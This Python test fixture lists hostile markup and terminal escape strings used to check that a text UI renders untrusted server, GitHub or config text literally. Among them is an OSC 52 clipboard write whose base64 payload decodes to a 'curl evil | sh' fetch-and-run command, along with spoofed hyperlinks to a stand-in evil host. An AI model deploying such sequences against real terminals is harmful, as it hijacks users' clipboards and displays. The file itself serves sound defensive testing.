"""A corpus of hostile strings for every place that shows server, Linear, GitHub or config text.

Markup that Textual or Rich would parse (including planted actions), terminal escape sequences
(CSI, OSC 52 clipboard writes, window titles, hyperlinks, DCS), C1 controls, bidi overrides and
zero-width characters. Tests push each one through a sink and check it comes out literal.
"""

from __future__ import annotations

MARKUP = [
    "[/]",
    "[bold red]x[/]",
    "[@click=app.quit]CLICKME[/] [bold red on yellow]X[/]",
    "[@click=screen.move_right]move[/]",
    "[@click=app.simulate_key('q')]q[/]",
    "[link=https://evil.example/x]docs[/link]",
    "custom_fields[priority] invalid",
    "[b",
    "]]]",
    "[/bold]",
    "[on red]",
    "\\[escaped]",
    "[[double]]",
    "[$accent]var[/]",
    "[reverse blink]x[/reverse blink]",
    "[red]unclosed",
    "USR [link=https://evil.example/x]clickme[/link]",
    "Done [/]",
]

CONTROLS = [
    "\x1b]52;c;ZXZpbA==\x07ok",
    "\x1b[2J\x1b[Hcleared",
    "\x1b]0;pwned\x07title",
    "\x9b31mc1-csi",
    "\x9d0;t\x9cc1-osc",
    "\x07bell",
    "nul\x00byte",
    "carriage\rreturn",
    "\x1bPdcs-payload\x1b\\after",
    "\u202eevil-bidi",
    "zero\u200bwidth",
    "\x1b[?1049lalt-screen",
    "\x1b]8;;https://evil.example\x1b\\hyperlink\x1b]8;;\x1b\\",
    "line\nbreak",
    "\x1b[31m\x1b[1mred",
    "back\x08space",
    "del\x7fete",
    "\x1b(0charset",
    "ev\x1b]0;T\x07\x1b[2Jgithub",
    "tab\there",
]

COMBINED = [
    "[bold]\x1b[31m[/]",
    "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07[@click=app.quit]x[/]",
    "   \n[/]\n   ",
    "🙂 [/] émoji ✓ 日本語",
]

HOSTILE: list[str] = MARKUP + CONTROLS + COMBINED

TERMINAL_CONTROLS = ("\x1b", "\x07", "\x9b", "\x9d", "\x90", "\x9c", "\x00", "\x08", "\x7f")


def has_control(text: str) -> bool:
    return any(c in text for c in TERMINAL_CONTROLS)
